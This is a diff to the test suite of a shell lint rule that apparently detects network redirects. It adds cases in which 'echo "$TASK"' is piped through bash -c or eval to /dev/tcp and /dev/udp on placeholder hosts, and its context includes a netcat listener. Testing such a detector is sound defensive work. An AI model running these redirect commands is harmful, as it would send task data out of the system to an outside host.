@@ -8,6 +8,7 @@ ruleTester(rule, {
     'nc -l 4444',
     'rsync -a ./src/ ./backup/',
     'redis-cli ping',
+    "bash -c 'echo ok > /dev/null'",
     { name: 'command -v only looks curl up', code: 'if command -v curl >/dev/null 2>&1; then echo has-curl; fi' },
     { name: 'an allowed host', code: 'curl -s -o out.json http://localhost:3000/health', options: { allowedHosts: ['localhost'] } },
   ],
@@ -31,6 +32,16 @@ ruleTester(rule, {
       name: '/dev/tcp',
       code: 'echo "$TASK" > /dev/tcp/10.0.0.1/80',
       errors: [{ messageId: 'devTcp', line: 1, column: 16, endColumn: 36 }],
+    },
+    {
+      name: '/dev/tcp in text handed to a shell, at its place inside the quotes',
+      code: 'bash -c \'echo "$TASK" > /dev/tcp/h/80\'',
+      errors: [{ messageId: 'devTcp', line: 1, column: 25, endColumn: 38, message: /`\/dev\/tcp\/h\/80`/ }],
+    },
+    {
+      name: 'a /dev/udp redirect in a substitution eval runs, once',
+      code: 'eval "$(exec 3<>/dev/udp/h/53)"',
+      errors: [{ messageId: 'devTcp', line: 1, column: 17, endColumn: 30 }],
     },
     {
       name: 'after the tree-sitter misparse of a 3-stage pipeline',
